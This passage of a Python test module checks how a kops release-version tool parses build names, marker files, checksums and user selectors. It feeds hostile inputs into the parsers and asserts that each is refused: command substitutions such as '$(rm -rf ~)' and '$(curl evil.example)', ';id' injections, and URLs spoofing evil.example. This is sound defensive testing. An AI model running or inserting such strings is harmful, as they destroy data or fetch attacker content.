"""Object names, marker bodies and what is asked for: hostile text until it has passed the grammar."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kopsversion.errors import UsageError
from kopsversion.model.bucket import Foreign, Form, Malformed, Named
from kopsversion.model.channel import Channel
from kopsversion.model.layout import (
    MARKER_LIMIT,
    OFFICIAL_ROOT,
    UPLOAD_SAMPLE,
    BodyFormat,
    Selector,
    Skipped,
    build_directory,
    check_marker_name,
    is_root_marker,
    known_roots,
    marker_body,
    marker_path,
    read_artifact_path,
    read_build_name,
    read_checksum,
    read_marker_body,
    read_marker_path,
    read_number_prefix,
    read_selector,
)
from kopsversion.model.version import BuildVersion
from tests.builders import ERAS
from tests.strategies import any_text, hostile_texts, version_texts

if TYPE_CHECKING:
    from kopsversion.model.bucket import MarkerReading
    from tests.builders import Era

VERSION = "1.30.0-beta.2+v1.30.0-beta.1-182-g99b3ad7643"
GS_ROOT = "gs://k8s-staging-kops/kops/releases/"
ROOTS = (OFFICIAL_ROOT, GS_ROOT)
URL = f"{OFFICIAL_ROOT}{VERSION}"


def read(body: str | bytes, *, roots: tuple[str, ...] = ROOTS) -> MarkerReading:
    data = body.encode() if isinstance(body, str) else body
    return read_marker_body(data[: MARKER_LIMIT + 1], roots=roots)


# --------------------------------------------------------------------------------------------------
# Object names


class TestBuildNames:
    """The entries of a listing of the root are builds, markers/, or debris (FAILURES row 22)."""

    @given(version_texts(plain=True))
    def test_directory_and_version_are_read_both_ways(self, text: str) -> None:
        """The directory of a version is read back as that version, text included."""
        version = BuildVersion.parse(text)
        assert build_directory(version) == f"{text}/"
        read_back = read_build_name(build_directory(version))
        assert isinstance(read_back, BuildVersion)
        assert str(read_back) == text

    @pytest.mark.parametrize(
        ("prefix", "expected"),
        [
            ("markers/", None),
            ("/", Skipped.EMPTY_SEGMENT),
            ("", Skipped.EMPTY_SEGMENT),
            ("index.html", Skipped.STRAY_FILE),
            ("1.29.0", Skipped.STRAY_FILE),
            ("v20240307-v1.29.0-alpha.3-378-g22ce1230da/", Skipped.FOREIGN),
            ("v1.29.0/", Skipped.FOREIGN),
            ("vv1.29.0/", Skipped.FOREIGN),
            ("cloudbuild/", Skipped.FOREIGN),
            ("latest/", Skipped.FOREIGN),
            ("1.29/", Skipped.FOREIGN),
            ("1.29.0//", Skipped.FOREIGN),
            ("1.29.0 v1.28.0-3-g0123456/", Skipped.FOREIGN),
            ("1.29.0%2Bv1.28.0-3-g0123456/", Skipped.FOREIGN),
            ("1.29.0\n/", Skipped.FOREIGN),
            ("$(rm -rf ~)/", Skipped.FOREIGN),
            ("../", Skipped.FOREIGN),
            ("\ud800/", Skipped.FOREIGN),
        ],
    )
    def test_what_is_no_build_is_told_apart(self, prefix: str, expected: Skipped | None) -> None:
        """Debris is named by its kind, never by its text; the markers are neither."""
        assert read_build_name(prefix) is expected

    @given(hostile_texts())
    def test_any_name_is_read(self, text: str) -> None:
        """No name raises; what is read as a version has the name of its directory."""
        reading = read_build_name(f"{text}/")
        if isinstance(reading, BuildVersion):
            assert str(reading) == text


@pytest.mark.parametrize(
    ("prefix", "parent", "expected"),
    [
        ("1.", "", "1"),
        ("0.", "", "0"),
        ("12.", "", "12"),
        ("1.30.", "1.", "1.30"),
        ("1.0.", "1.", "1.0"),
        ("v1.", "", None),
        ("01.", "", None),
        ("1.030.", "1.", None),
        ("index.", "", None),
        ("1.30.0.", "1.", None),
        ("2.30.", "1.", None),
        (".", "", None),
        ("1..", "1.", None),
        ("\u0661.", "", None),
        ("1\n.", "", None),
        ("1234567890.", "", None),
        ("-1.", "", None),
    ],
)
def test_majors_and_minors_are_read_from_prefixes(prefix: str, parent: str, expected: str | None) -> None:
    """An entry of a listing with delimiter ``.`` is a number of the grammar, or nothing."""
    assert read_number_prefix(prefix, parent) == expected


class TestArtifactPaths:
    """The objects below a build's directory are its files, by path."""

    @pytest.mark.parametrize("era", ERAS.values(), ids=ERAS)
    def test_files_of_every_era_are_read(self, era: Era) -> None:
        """FAILURES row 27: whatever files a build has, each is read into the path it was put at."""
        version = BuildVersion.parse(VERSION)
        for path in era.paths:
            assert read_artifact_path(f"{VERSION}/{path}", version=version) == path
        assert UPLOAD_SAMPLE in era.paths

    @pytest.mark.parametrize(
        ("path", "taken"),
        [
            ("cloudbuild/images.txt", True),
            ("linux/amd64/nodeup.xz", True),
            ("a/b/c/d/e/f/g/h/i", True),
            ("a/b/c/d/e/f/g/h/i/j", False),
            ("x" * 121, True),
            ("x" * 122, False),
            ("", False),
            ("linux/", False),
            ("linux/amd64/", False),
            ("/linux/amd64/kops", False),
            ("linux//kops", False),
            ("linux/../kops", False),
            ("./kops", False),
            ("linux/.kops", False),
            ("linux/amd64/kops\n", False),
            ("linux/amd64/kops ", False),
            ("linux\\amd64\\kops", False),
            ("linux/amd64/k\u00f6ps", False),
            ("linux/amd64/\u202espok", False),
            ("$(id)", False),
            ("\x1b[31m", False),
            ("\ud800", False),
        ],
        ids=ascii,
    )
    def test_odd_names_are_left_out(self, path: str, taken: bool) -> None:  # noqa: FBT001  # a column of the table
        """A folder placeholder or a name with foreign characters is no file of a build."""
        reading = read_artifact_path(f"{VERSION}/{path}", version=BuildVersion.parse(VERSION))
        assert reading == (path if taken else None)

    @given(any_text())
    def test_what_is_read_can_be_printed(self, path: str) -> None:
        """A path is either the printable ASCII that kops' files are named with, or not repeated."""
        reading = read_artifact_path(f"{VERSION}/{path}", version=BuildVersion.parse(VERSION))
        if reading is not None:
            assert reading == path
            assert reading.isascii()
            assert reading.isprintable()
            assert ".." not in reading.split("/")


class TestMarkerPaths:
    """Markers are markers/<ref>/<name>."""

    @pytest.mark.parametrize("ref", ["master", "release-1.30", "v1.30.0", "1.30.0-beta.1", "v1.30.0-beta.1"])
    @pytest.mark.parametrize("name", ["latest-ci.txt", "latest-ci-updown-green.txt"])
    def test_markers_are_read_both_ways(self, ref: str, name: str) -> None:
        """The path of a marker is read back as its ref and name."""
        assert marker_path(ref, name) == f"markers/{ref}/{name}"
        assert read_marker_path(marker_path(ref, name)) == (ref, name)

    @pytest.mark.parametrize(
        "path",
        [
            "markers/",
            "markers/master",
            "markers/master/",
            "markers//latest-ci.txt",
            "markers/master/latest-ci.txt/",
            "markers/master/old/latest-ci.txt",
            "marker/master/latest-ci.txt",
            "/markers/master/latest-ci.txt",
            "markers/release-master/latest-ci.txt",
            "markers/main/latest-ci.txt",
            "markers/../latest-ci.txt",
            "markers/master/..",
            "markers/master/.latest-ci.txt",
            "markers/master/latest ci.txt",
            "markers/master\n/latest-ci.txt",
            "markers/master/latest-ci.txt\n",
            "markers/release-1.30;id/latest-ci.txt",
            "markers/release-\u0661.30/latest-ci.txt",
            f"markers/v1{'0' * 81}/latest-ci.txt",
            f"markers/release-1{'0' * 21}/latest-ci.txt",
            f"markers/master/{'x' * 102}",
        ],
    )
    def test_other_paths_are_no_markers(self, path: str) -> None:
        """What could be no marker's path is not read as one."""
        assert read_marker_path(path) is None

    @pytest.mark.parametrize("name", ["latest-ci.txt", "latest-ci-updown-green.txt", "x", "a_b", "9"])
    def test_a_name_from_a_user_is_taken(self, name: str) -> None:
        """What can be the name of a marker is given back as it is."""
        assert check_marker_name(name) == name

    @pytest.mark.parametrize(
        "name",
        [
            "",
            ".",
            "..",
            "../latest-ci.txt",
            "a/b",
            "-x",
            " x",
            "x ",
            "x\n",
            "\u00e9",
            "x" * 102,
            "/",
            "/x.txt",
            "//latest.txt",
            "/latest-master.txt",
            "/latest.txt/",
        ],
    )
    def test_a_name_from_a_user_that_is_not_valid_is_refused(self, name: str) -> None:
        """A path, or odd characters, are refused with the value shown and the form that is expected."""
        with pytest.raises(UsageError) as raised:
            check_marker_name(name)
        assert ascii(name[:120]) in str(raised.value)
        assert "latest-ci.txt" in raised.value.hint


DIGEST = b"0123456789abcdef" * 4


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (DIGEST, DIGEST),
        (DIGEST + b"\n", DIGEST),
        (DIGEST + b"\r\n", DIGEST),
        (DIGEST + b"  kops\n", DIGEST),
        (DIGEST + b"\tkops", DIGEST),
        (DIGEST + b"0", None),
        (DIGEST + b"\0", None),
        (DIGEST[:-1], None),
        (DIGEST[:-1] + b"\n", None),
        (DIGEST.upper(), None),
        (b" " + DIGEST, None),
        (b"\xef\xbb\xbf" + DIGEST, None),
        (b"<html>" + DIGEST, None),
        (b"", None),
        (b"\xff" * 64, None),
        ("\u0661".encode() * 64, None),
    ],
)
def test_checksums_are_read_strictly(data: bytes, expected: bytes | None) -> None:
    """A checksum is 64 hex digits, perhaps with a file name after them, or it is none."""
    assert read_checksum(data) == (expected.decode() if expected else None)


# --------------------------------------------------------------------------------------------------
# Marker bodies

REPAIRED = {
    "as kops writes it": f"{URL}\n",
    "no newline": URL,
    "CRLF": f"{URL}\r\n",
    "several newlines": f"{URL}\n\n\r\n",
    "byte order mark": f"\ufeff{URL}\n",
    "byte order mark and spaces": f"\ufeff  {URL}\n",
    "spaces around": f"  {URL} \n",
    "tabs around": f"\t{URL}\t",
    "newline in front": f"\n{URL}\n",
    "doubled slash before the version": f"{OFFICIAL_ROOT}/{VERSION}\n",
    "doubled slash within": URL.replace("/kops/", "//kops//"),
    "slash at the end": f"{URL}/\n",
    "plus as %2B": URL.replace("+", "%2B"),
    "plus as %2b": URL.replace("+", "%2b"),
    "plus as a space": URL.replace("+", " "),
    "http": URL.replace("https:", "http:"),
    "upper case scheme and host": URL.replace("https://storage", "HTTPS://STORAGE"),
    "the scheme's own port": URL.replace(".com/", ".com:443/"),
    "http and its own port": URL.replace("https:", "http:").replace(".com/", ".com:80/"),
    "a colon and no port": URL.replace(".com/", ".com:/"),
    "another root of the store": f"{GS_ROOT}{VERSION}",
    "version": f"{VERSION}\n",
    "version, no newline": VERSION,
    "version, CRLF": f"{VERSION}\r\n",
    "version, byte order mark": f"\ufeff{VERSION}\n",
    "version, spaces around": f"  {VERSION} ",
    "version with v": f"v{VERSION}\n",
    "version, plus as %2B": VERSION.replace("+", "%2B"),
    "version, plus as a space": VERSION.replace("+", " "),
    "version with v, plus as a space": f"v{VERSION}".replace("+", " "),
}

NEITHER = "holds neither a version nor the URL of a build"
NO_VERSION = "holds a URL that does not end in a version"
LINES = "has more than one line"
CONTROL = "holds control characters"
HTML = "is an HTML or XML page"
LARGE = "is larger than 1024 bytes"
UNREADABLE = "holds a URL that cannot be read"
HOST = "storage.googleapis.com"

MALFORMED: dict[str, tuple[str | bytes, str]] = {
    "empty": ("", "is empty"),
    "white space": (" \t\r\n", "is empty"),
    "byte order mark alone": ("\ufeff", "is empty"),
    "HTML": ("<!DOCTYPE html><title>404</title>", HTML),
    "HTML without doctype": ("<html>\n<body>Not found</body>\n</html>", HTML),
    "HTML that holds a version": (f"<p>{VERSION}</p>", HTML),
    "XML": ("<?xml version='1.0'?><Error><Code>NoSuchKey</Code></Error>", HTML),
    "XML element": ("<Error><Code>AccessDenied</Code></Error>", HTML),
    "JSON": ('{"error": {"code": 404}}', NEITHER),
    "prose": ("Not Found", NEITHER),
    "two lines": (f"{URL}\n{URL}\n", LINES),
    "two versions": (f"{VERSION}\n{VERSION}\n", LINES),
    "two lines, CR alone": (f"{VERSION}\r{VERSION}", LINES),
    "line separator": (f"{VERSION}\u2028x", LINES),
    "vertical tab": (f"{VERSION}\vx", LINES),
    "gzip": (b"\x1f\x8b\x08\0\0\0\0\0", "is not text"),
    "ELF": (b"\x7fELF\x02\x01\x01" + bytes(200), CONTROL),
    "UTF-16": (VERSION.encode("utf-16"), "is not text"),
    "Latin-1": (f"{VERSION}\u00e9".encode("latin-1"), "is not text"),
    "5 MB": (b"1" * 5_000_000, LARGE),
    "5 MB of line ends after a version": (f"{URL}\n".encode() + b"\n" * 5_000_000, LARGE),
    "one byte too many": (URL.ljust(MARKER_LIMIT + 1), LARGE),
    "NUL": (f"{VERSION}\0", CONTROL),
    "escape sequence": (f"\x1b[2J{VERSION}", CONTROL),
    "backspaces": (f"{VERSION}\b\b\b", CONTROL),
    "tab within": (VERSION.replace("+", "\t"), CONTROL),
    "bidi override": (f"\u202e{VERSION}", CONTROL),
    "bidi isolate within": (VERSION.replace("+", "\u2066+"), CONTROL),
    "zero width space": (f"{VERSION}\u200b", CONTROL),
    "no-break space": (VERSION.replace("+", "\u00a0"), CONTROL),
    "byte order mark within": (f" \ufeff{VERSION}", CONTROL),
    "two byte order marks": (f"\ufeff\ufeff{VERSION}", CONTROL),
    "unicode digits": ("\u0661.\u0663\u0660.\u0660", NEITHER),
    "fullwidth digits": ("\uff11.\uff13\uff10.\uff10", NEITHER),
    "fullwidth plus": (VERSION.replace("+", "\uff0b"), NEITHER),
    "cyrillic letter": (VERSION.replace("beta", "bet\u0430"), NEITHER),
    "two v": (f"vv{VERSION}", NEITHER),
    "capital V": (f"V{VERSION}", NEITHER),
    "two spaces": (VERSION.replace("+", "  "), NEITHER),
    "two pluses": (VERSION.replace("+", "++"), NEITHER),
    "plus encoded twice": (VERSION.replace("+", "%252B"), NEITHER),
    "other percent codes": (VERSION.replace("-", "%2D"), NEITHER),
    "quoted": (f'"{VERSION}"', NEITHER),
    "command substitution": ("$(curl evil.example)", NEITHER),
    "assignment": (f"KOPS_VERSION={VERSION}", NEITHER),
    "path": (f"releases/{VERSION}", NEITHER),
    "version and more": (f"{VERSION};id", NEITHER),
    "shortened": (VERSION[:-4], NEITHER),
    "channel": ("latest", NEITHER),
    "minor": ("1.30", NEITHER),
    "URL of the root": (OFFICIAL_ROOT, NO_VERSION),
    "URL of a file": (f"{URL}/linux/amd64/kops", NO_VERSION),
    "URL of a version with v": (f"{OFFICIAL_ROOT}v{VERSION}", NO_VERSION),
    "URL of a version with two v": (f"{OFFICIAL_ROOT}vv{VERSION}", NO_VERSION),
    "URL with query": (f"{URL}?x=1", NO_VERSION),
    "URL with empty query": (f"{URL}?", NO_VERSION),
    "URL with fragment": (f"{URL}#x", NO_VERSION),
    "URL and ..": (f"{URL}/..", NO_VERSION),
    "URL in brackets": (f"<{URL}>", HTML),
    "URL alone": ("https://", NO_VERSION),
    "no host": ("://", NO_VERSION),
    "port that is no number": (f"https://{HOST}:https/kops/{VERSION}", UNREADABLE),
    "port out of range": (f"https://{HOST}:99999/kops/{VERSION}", UNREADABLE),
    "open bracket": (f"https://[::1/kops/{VERSION}", UNREADABLE),
    "host that normalises to a slash": (f"https://a\u2100b/kops/{VERSION}", UNREADABLE),
}

PLACE = "/k8s-staging-kops/kops/releases/"
ELSEWHERE = {
    "another host": f"https://evil.example{PLACE}{VERSION}",
    "a host that ends alike": f"https://evil-{HOST}{PLACE}{VERSION}",
    "a host that begins alike": f"https://{HOST}.evil.example{PLACE}{VERSION}",
    "no host": f"https://{PLACE}{VERSION}",
    "another bucket": f"https://{HOST}/kops-ci/bin/{VERSION}",
    "another bucket in the same words": f"gs://{HOST}{PLACE}{VERSION}",
    "a place below": f"{OFFICIAL_ROOT}old/{VERSION}",
    "a place above": f"https://{HOST}/k8s-staging-kops/kops/{VERSION}",
    "up and down again": f"{OFFICIAL_ROOT}../releases/{VERSION}",
    "up at the end": f"{OFFICIAL_ROOT}../{VERSION}",
    "a dot": f"{OFFICIAL_ROOT}./{VERSION}",
    "encoded slashes": f"https://{HOST}{PLACE.replace('/kops/', '%2Fkops%2F')}{VERSION}",
    "other letters": f"https://{HOST}{PLACE.upper()}{VERSION}",
    "user": f"https://user@{HOST}{PLACE}{VERSION}",
    "user and password": f"https://user:password@{HOST}{PLACE}{VERSION}",
    "empty user": f"https://@{HOST}{PLACE}{VERSION}",
    "the host as user": f"https://{HOST}@evil.example{PLACE}{VERSION}",
    "a port": f"https://{HOST}:8443{PLACE}{VERSION}",
    "another scheme's port": f"https://{HOST}:80{PLACE}{VERSION}",
    "port 0": f"https://{HOST}:0{PLACE}{VERSION}",
    "a port where there is none": f"gs://k8s-staging-kops:443/kops/releases/{VERSION}",
    "a port and a user": f"https://user@{HOST}:8443{PLACE}{VERSION}",
    "the scheme's own port and a user": f"https://user@{HOST}:443{PLACE}{VERSION}",
    "the scheme's own port as password": f"https://{HOST}:443@evil.example{PLACE}{VERSION}",
    "a backslash and the host as user": f"https://{HOST}\\@evil.example{PLACE}{VERSION}",
    "a query before the version": f"https://{HOST}{PLACE}?x=/{VERSION}",
    "a fragment before the version": f"https://{HOST}{PLACE}#x/{VERSION}",
    "an empty query": f"https://{HOST}{PLACE}?/{VERSION}",
    "an empty fragment": f"https://{HOST}{PLACE}#/{VERSION}",
    "parameters": f"https://{HOST}{PLACE};x/{VERSION}",
    "another scheme": f"ftp://{HOST}{PLACE}{VERSION}",
    "no scheme": f"://{HOST}{PLACE}{VERSION}",
    "a file": f"file://{PLACE}{VERSION}",
    "script": f"javascript://{HOST}{PLACE}{VERSION}",
    "backslashes": f"https://{HOST}\\..\\{PLACE}{VERSION}",
}


class TestMarkerBodies:
    """A body is a base URL or a version, in one line (FAILURES rows 10 and 16)."""

    @pytest.mark.parametrize("body", REPAIRED.values(), ids=REPAIRED)
    def test_damage_without_doubt_is_repaired(self, body: str) -> None:
        """FAILURES row 16: where the meaning is clear, the version is read, as its directory is called."""
        reading = read(body)
        assert isinstance(reading, Named)
        assert str(reading.version) == VERSION

    @pytest.mark.parametrize(("body", "reason"), MALFORMED.values(), ids=MALFORMED)
    def test_what_holds_no_version_is_malformed(self, body: str | bytes, reason: str) -> None:
        """FAILURES row 10: an error page, binary, or anything doubtful is no version, and the reason is said."""
        assert read(body) == Malformed(reason)

    @pytest.mark.parametrize("body", ELSEWHERE.values(), ids=ELSEWHERE)
    def test_a_place_outside_the_store_is_foreign(self, body: str) -> None:
        """A URL selects a build of the store only if it is exactly one of the store's own places."""
        assert read(body) == Foreign("names a place outside the store")

    def test_the_largest_body_that_is_read(self) -> None:
        """1,024 bytes are read, and one more is not."""
        assert isinstance(read(URL.ljust(MARKER_LIMIT)), Named)
        assert isinstance(read(URL.ljust(MARKER_LIMIT + 1)), Malformed)

    @pytest.mark.parametrize(
        ("root", "accepted", "refused"),
        [
            ("file:///srv/mirror/", "file:///srv/mirror/", "file:///srv/other/"),
            ("http://127.0.0.1:4443/b/", "https://127.0.0.1:4443/b/", "http://127.0.0.1:4444/b/"),
            ("gs://bucket/", "gs://bucket//", "gs://other/"),
            ("https://h.example/a/", "https://H.EXAMPLE/a/", "https://h.example/A/"),
            ("https://h.example:443/a/", "https://h.example/a/", "https://h.example:0/a/"),
            ("http://h.example:8080/a+b/", "http://h.example:8080/a+b/", "http://h.example:8080/a%20b/"),
            ("https://h.example/a%20b/", "https://h.example//a%20b/", "https://u@h.example/a%20b/"),
            ("http://h.example:80/a/", "https://h.example:443/a/", "http://h.example:443/a/"),
        ],
    )
    def test_places_are_told_apart_by_the_roots(self, root: str, accepted: str, refused: str) -> None:
        """Whether a URL is the store's depends on the roots alone, port and letters of the path included."""
        assert isinstance(read(f"{accepted}{VERSION}", roots=(root,)), Named)
        assert isinstance(read(f"{refused}{VERSION}", roots=(root,)), Foreign)

    @pytest.mark.parametrize(
        ("body", "form"),
        [
            (URL, Form.URL),
            (f"{URL}/", Form.URL),
            (VERSION, Form.VERSION),
            (VERSION.replace("+", "%2B"), Form.VERSION),
            (f"v{VERSION}", Form.TAG),
            ("1.37.0-alpha.1", Form.VERSION),
            ("v1.36.2", Form.TAG),
        ],
    )
    def test_it_is_known_in_which_form_a_build_is_named(self, body: str, form: Form) -> None:
        """FAILURES row 37: it decides whether consumers can follow; what is named is the same."""
        reading = read(body)
        assert isinstance(reading, Named)
        assert reading.form is form
        assert reading == Named(reading.version)

    @pytest.mark.parametrize(
        ("name", "ref"),
        [("latest.txt", "master"), ("latest-1.37.txt", "release-1.37"), ("latest-1.9.txt", "release-1.9")],
    )
    def test_markers_at_the_root_belong_to_a_channel(self, name: str, ref: str) -> None:
        """Path and name lead to each other, and the name has a slash, as ``--marker`` wants it."""
        assert is_root_marker(name)
        assert read_marker_path(name) == (ref, f"/{name}")
        assert marker_path(ref, f"/{name}") == name
        assert Channel(ref).root_marker == f"/{name}" == check_marker_name(f"/{name}")

    @pytest.mark.parametrize(
        "name",
        [
            "latest",
            "latest-ci.txt",
            "latest-.txt",
            "latest-1.txt",
            "latest-01.37.txt",
            "latest-1.37.txt.sha256",
            "Latest.txt",
            "latest-1.37.2.txt",
            "latest-v1.37.txt",
            "latest-12345.1.txt",
            "latest\n.txt",
            "/latest.txt",
            "latest-\u0661.37.txt",
        ],
    )
    def test_other_names_at_the_root_are_debris(self, name: str) -> None:
        """Nothing else beside the builds is a marker."""
        assert not is_root_marker(name)
        assert read_marker_path(name) is None

    @pytest.mark.parametrize(
        "root",
        [OFFICIAL_ROOT, GS_ROOT, "https://dl.k8s.io/ci/kops/kops/releases/", "https://old.example/kops/"],
    )
    @pytest.mark.parametrize("store", ["gs://mirror/kops/", "file:///srv/kops/", "mem://bucket/"])
    def test_official_roots_and_aliases_are_known_in_every_store(self, store: str, root: str) -> None:
        """FAILURES row 46: a mirror keeps the text of the markers."""
        aliases = ("https://old.example/kops/",)
        known = known_roots(store, public_url=store, aliases=aliases)
        assert read(f"{root}{VERSION}", roots=known) == Named(BuildVersion.parse(VERSION))
        assert isinstance(read(f"https://evil.example/kops/{VERSION}", roots=known), Foreign)
        without = known_roots(store, public_url=store)
        assert isinstance(read(f"https://old.example/kops/{VERSION}", roots=without), Foreign)

    def test_without_roots_every_url_is_foreign(self) -> None:
        """A store that has no URL is named by no URL; a version alone still names its build."""
        assert isinstance(read(URL, roots=()), Foreign)
        assert isinstance(read(VERSION, roots=()), Named)

    @pytest.mark.parametrize("body_format", BodyFormat)
    @given(text=version_texts(plain=True))
    def test_what_is_written_is_read(self, body_format: BodyFormat, text: str) -> None:
        """Both formats are read back as the version that was written, and end in one newline."""
        version = BuildVersion.parse(text)
        body = marker_body(version, base_url=f"{OFFICIAL_ROOT}{text}", body_format=body_format)
        assert body.endswith(f"{text}\n".encode())
        assert body.count(b"\n") == 1
        reading = read_marker_body(body, roots=ROOTS)
        assert reading == Named(version)
        assert isinstance(reading, Named)
        assert str(reading.version) == text

    def test_the_url_is_what_is_written_unless_told_otherwise(self) -> None:
        """kops writes the base URL: no slash at its end, a literal plus, one newline."""
        assert marker_body(BuildVersion.parse(VERSION), base_url=URL) == f"{URL}\n".encode()


class TestHostileBodies:
    """A marker is untrusted text: it is in no reading until it has passed the grammar."""

    @pytest.mark.parametrize("body", [body for body, _ in MALFORMED.values()], ids=MALFORMED)
    def test_a_refusal_does_not_repeat_the_text(self, body: str | bytes) -> None:
        """The reason is one of a few sentences of our own."""
        reading = read(body)
        assert isinstance(reading, Malformed)
        assert reading.reason in OWN_SENTENCES

    @given(
        st.one_of(
            st.binary(max_size=MARKER_LIMIT + 1),
            any_text().map(lambda text: text.encode(errors="surrogatepass")),
            hostile_texts().map(lambda text: text.encode(errors="surrogatepass")),
            hostile_texts().map(lambda text: (OFFICIAL_ROOT + text).encode(errors="surrogatepass")),
            st.builds("{}://{}/{}".format, any_text(), any_text(), version_texts()).map(
                lambda text: text.encode(errors="surrogatepass")
            ),
        )
    )
    @example(b"://")
    @example(b"https://[")
    @example(b"https://[v1.]/1.30.0")
    @example(b"https://h:\xd9\xa1/1.30.0")
    def test_any_bytes_are_read(self, data: bytes) -> None:
        """Nothing raises; a version comes out only if it passes the grammar, without ``v``, and is there."""
        reading = read_marker_body(data, roots=ROOTS)
        if isinstance(reading, Named):
            text = str(reading.version)
            assert BuildVersion.parse(text) == reading.version
            assert not text.startswith("v")
            assert len(data) <= MARKER_LIMIT
            assert text.partition("+")[0].encode() in data
        else:
            assert isinstance(reading, Foreign | Malformed)
            assert reading.reason in OWN_SENTENCES


OWN_SENTENCES = {reason for _, reason in MALFORMED.values()} | {"names a place outside the store"}


# --------------------------------------------------------------------------------------------------
# What a user asks for


class TestSelectors:
    """Selectors that kops' scripts already use keep their meaning (DESIGN section 9)."""

    @pytest.mark.parametrize(
        ("text", "ref"),
        [
            ("master", "master"),
            ("latest", "master"),
            ("release-1.30", "release-1.30"),
            ("1.30", "release-1.30"),
            ("1.9", "release-1.9"),
            ("0.0", "release-0.0"),
        ],
    )
    def test_channels(self, text: str, ref: str) -> None:
        """A channel is asked for by its ref or its alias."""
        selector = read_selector(text)
        assert selector == Selector(Channel(ref))
        assert str(selector) == ref

    @pytest.mark.parametrize("text", ["1.30.0", "1.30.0-beta.2", VERSION, "1.14.0-alpha.2+2178721764"])
    @pytest.mark.parametrize("v", ["", "v"])
    def test_versions(self, v: str, text: str) -> None:
        """A version is asked for with or without ``v``, and named as its directory is."""
        selector = read_selector(f"{v}{text}")
        assert selector == Selector(BuildVersion.parse(text))
        assert str(selector) == text

    @pytest.mark.parametrize(
        ("text", "ref", "marker"),
        [
            (f"{OFFICIAL_ROOT}markers/master/latest-ci.txt", "master", "latest-ci.txt"),
            (
                f"{OFFICIAL_ROOT}markers/master/latest-ci-updown-green.txt",
                "master",
                "latest-ci-updown-green.txt",
            ),
            (f"{OFFICIAL_ROOT}markers/release-1.30/latest-ci.txt", "release-1.30", "latest-ci.txt"),
            (f"{GS_ROOT}markers/release-1.30/latest-ci.txt", "release-1.30", "latest-ci.txt"),
            ("file:///srv/markers/markers/master/x.txt", "master", "x.txt"),
        ],
    )
    def test_urls_of_markers(self, text: str, ref: str, marker: str) -> None:
        """The URL of a marker names the channel, and the marker to cross-check."""
        assert read_selector(text) == Selector(Channel(ref), marker=marker)

    @pytest.mark.parametrize(
        "text",
        [
            "",
            " master",
            "Master",
            "trunk",
            "Main",
            "release-master",
            "release-",
            "release-1",
            "release-1.30.0",
            "release-v1.30",
            "release-01.30",
            "v1.30",
            "1.030",
            "1",
            "1.30.",
            "1.30.0-gamma.1",
            "vv1.30.0",
            f"{VERSION}\n",
            VERSION.replace("+", " "),
            "\u0661.30",
            "12345.1",
            "$(id)",
            "\x1b[31mmaster",
            "x" * 5000,
        ],
        ids=lambda text: ascii(text)[:40],
    )
    def test_other_text_is_refused(self, text: str) -> None:
        """What is neither is refused with the value shown harmlessly and every form that is expected."""
        with pytest.raises(UsageError) as raised:
            read_selector(text)
        assert str(raised.value).startswith(ascii(text[:120]))
        assert "neither a channel nor a version" in str(raised.value)
        assert all(form in raised.value.hint for form in ("master", "release-1.30", "1.30.0-beta.2", "URL"))

    @pytest.mark.parametrize(
        "text",
        [
            "https://",
            "://",
            OFFICIAL_ROOT,
            URL,
            f"{OFFICIAL_ROOT}markers/",
            f"{OFFICIAL_ROOT}markers/master",
            f"{OFFICIAL_ROOT}markers/master/",
            f"{OFFICIAL_ROOT}markers/master/latest-ci.txt?x=1",
            f"{OFFICIAL_ROOT}markers/release-master/latest-ci.txt",
            f"{OFFICIAL_ROOT}markers/master/../latest-ci.txt",
            "/markers/master/latest-ci.txt://",
            "https://h.example/latest-ci.txt",
            "https://latest.txt",
            f"{OFFICIAL_ROOT}latest-master.txt",
            f"{OFFICIAL_ROOT}latest-1.txt",
            f"{OFFICIAL_ROOT}latest-1.037.txt",
            f"{OFFICIAL_ROOT}latest-1.37.txt?x=1",
            f"{OFFICIAL_ROOT}latest-release-1.37.txt",
            f"{OFFICIAL_ROOT}Latest.txt",
            f"{OFFICIAL_ROOT}markers/latest.txt",
            f"{OFFICIAL_ROOT}markers/main/latest-ci.txt",
        ],
    )
    def test_other_urls_are_refused(self, text: str) -> None:
        """A URL that is no marker's is refused, with one that is."""
        with pytest.raises(UsageError) as raised:
            read_selector(text)
        assert "is not the URL of a marker" in str(raised.value)
        assert f"{OFFICIAL_ROOT}markers/master/latest-ci.txt" in raised.value.hint

    @pytest.mark.parametrize(
        ("url", "ref", "marker"),
        [
            (f"{OFFICIAL_ROOT}latest.txt", "master", "/latest.txt"),
            (f"{OFFICIAL_ROOT}latest-1.37.txt", "release-1.37", "/latest-1.37.txt"),
            ("https://dl.k8s.io/ci/kops/kops/releases/latest-1.37.txt", "release-1.37", "/latest-1.37.txt"),
            (
                "https://dl.k8s.io/ci/kops/kops/releases/markers/master/latest-ci.txt",
                "master",
                "latest-ci.txt",
            ),
            ("gs://k8s-staging-kops/kops/releases/latest.txt", "master", "/latest.txt"),
            ("file:///srv/mirror/latest-1.9.txt", "release-1.9", "/latest-1.9.txt"),
        ],
    )
    def test_the_url_of_a_marker_at_the_root_names_its_channel(self, url: str, ref: str, marker: str) -> None:
        """By kops pull 18786 they hold the bare version, beside the builds."""
        assert read_selector(url) == Selector(Channel(ref), marker=marker)

    @pytest.mark.parametrize("ref", ["v1.36.2", "1.36.2", "v1.37.0-alpha.1"])
    def test_markers_of_tags_name_that_version(self, ref: str) -> None:
        """There is nothing to choose: a tag has one build."""
        found = read_selector(f"{OFFICIAL_ROOT}markers/{ref}/latest-ci.txt")
        assert found == Selector(BuildVersion.parse(ref.removeprefix("v")))
        assert found.channel is None

    def test_main_is_read_as_master(self) -> None:
        """And it is kept that it was asked for, so that it can be said."""
        assert read_selector("main") == Selector(Channel("master"), alias="main")

    @pytest.mark.parametrize("ref", ["release-1.30.1", "release-1", "1.2.3.4"])
    def test_markers_of_what_is_no_branch_are_no_channel(self, ref: str) -> None:
        """A marker of what is neither a branch nor a tag names no channel."""
        with pytest.raises(UsageError, match="is not a channel"):
            read_selector(f"{OFFICIAL_ROOT}markers/{ref}/latest-ci.txt")

    @given(hostile_texts())
    def test_no_text_makes_any_other_error(self, text: str) -> None:
        """Any text is a selector or a `UsageError`."""
        try:
            selector = read_selector(text)
        except UsageError:
            return
        assert (selector.channel is None) is isinstance(selector.target, BuildVersion)


# --------------------------------------------------------------------------------------------------
# Where a marker may point


@pytest.mark.parametrize(
    ("url", "public_url", "roots"),
    [
        (
            "gs://a/b/",
